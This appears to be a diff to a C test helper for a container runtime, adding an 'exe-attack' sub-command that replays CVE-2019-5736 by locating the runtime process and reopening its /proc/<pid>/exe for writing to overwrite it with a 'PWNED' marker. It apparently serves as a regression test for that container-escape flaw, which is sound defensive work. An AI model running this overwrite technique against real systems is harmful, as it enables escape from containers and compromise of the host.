@@ -19,10 +19,19 @@
  *   checker mounts  mount=<mount point> <fstype> <per-mount options> per mount
  *   checker env     env=<NAME=value> per variable
  *   checker snoop DIR  spy on joining runtime processes until DIR/stop (snoop.c)
+ *   checker exe-attack COMM DIR
+ *                   plays CVE-2019-5736: finds a process named COMM (the
+ *                   runtime), tries to open its /proc/<pid>/exe for writing,
+ *                   keeps an O_PATH fd of it, creates DIR/holding, waits for
+ *                   DIR/trigger, then reopens the fd for writing (retrying
+ *                   while "Text file busy") and writes "PWNED" into it.
+ *                   Writes what happened to DIR/result (then exits).
  *
  * Several sub-commands may be given; they are printed in order.
  */
+#include <dirent.h>
 #include <errno.h>
+#include <fcntl.h>
 #include <limits.h>
 #include <stdio.h>
 #include <sys/socket.h>
@@ -287,6 +296,95 @@ static void send_ready(void)
 }
 
 static void *volatile alloc_head;
+static pid_t find_comm(const char *comm)
+{
+	DIR *d = opendir("/proc");
+	struct dirent *e;
+	pid_t found = 0;
+	char path[64], buf[64];
+
+	while (d && !found && (e = readdir(d))) {
+		pid_t pid = (pid_t)atoi(e->d_name);
+		FILE *f;
+
+		if (pid <= 0 || pid == getpid())
+			continue;
+		snprintf(path, sizeof(path), "/proc/%d/comm", (int)pid);
+		f = fopen(path, "re");
+		if (f && fgets(buf, sizeof(buf), f)) {
+			buf[strcspn(buf, "\n")] = 0;
+			if (strcmp(buf, comm) == 0)
+				found = pid;
+		}
+		if (f)
+			fclose(f);
+	}
+	if (d)
+		closedir(d);
+	return found;
+}
+
+static void touch(const char *dir, const char *name, const char *text)
+{
+	char path[PATH_MAX];
+	FILE *f;
+
+	snprintf(path, sizeof(path), "%s/%s.tmp", dir, name);
+	f = fopen(path, "we");
+	if (!f)
+		return;
+	fputs(text, f);
+	fclose(f);
+	char final[PATH_MAX];
+	snprintf(final, sizeof(final), "%s/%s", dir, name);
+	rename(path, final);
+}
+
+/* Bounded polling: the test gives up long before (no timed assertion). */
+static int exe_attack(const char *comm, const char *dir)
+{
+	char res[4096] = "", path[PATH_MAX], exe[64];
+	size_t n = 0;
+	pid_t pid = 0;
+	int fd, w, i;
+
+	for (i = 0; i < 60000 && !(pid = find_comm(comm)); i++)
+		usleep(2000);
+	if (!pid) {
+		touch(dir, "result", "target: not found\n");
+		return 1;
+	}
+	snprintf(exe, sizeof(exe), "/proc/%d/exe", (int)pid);
+	w = open(exe, O_WRONLY | O_CLOEXEC);
+	n += snprintf(res + n, sizeof(res) - n, "write-open: %s\n", w >= 0 ? "ok" : strerror(errno));
+	if (w >= 0)
+		close(w);
+	fd = open(exe, O_PATH | O_CLOEXEC);
+	n += snprintf(res + n, sizeof(res) - n, "o_path: %s\n", fd >= 0 ? "ok" : strerror(errno));
+	touch(dir, "holding", res);
+	snprintf(path, sizeof(path), "%s/trigger", dir);
+	for (i = 0; i < 60000 && access(path, F_OK) < 0; i++)
+		usleep(2000);
+	if (fd >= 0) {
+		char self[64];
+
+		snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
+		for (i = 0; i < 5000; i++) {
+			w = open(self, O_WRONLY | O_CLOEXEC);
+			if (w >= 0 || errno != ETXTBSY)
+				break;
+			usleep(2000);
+		}
+		n += snprintf(res + n, sizeof(res) - n, "reopen: %s\n", w >= 0 ? "ok" : strerror(errno));
+		if (w >= 0) {
+			if (pwrite(w, "PWNED", 5, 0) == 5)
+				n += snprintf(res + n, sizeof(res) - n, "wrote\n");
+			close(w);
+		}
+	}
+	touch(dir, "result", res);
+	return 0;
+}
 
 static const struct {
 	const char *name;
@@ -306,6 +404,8 @@ int main(int argc, char **argv)
 		print_all();
 		return 0;
 	}
+	if (strcmp(argv[1], "exe-attack") == 0 && argc == 4)
+		return exe_attack(argv[2], argv[3]);
 	for (int i = 1; i < argc; i++) {
 		size_t j;
 
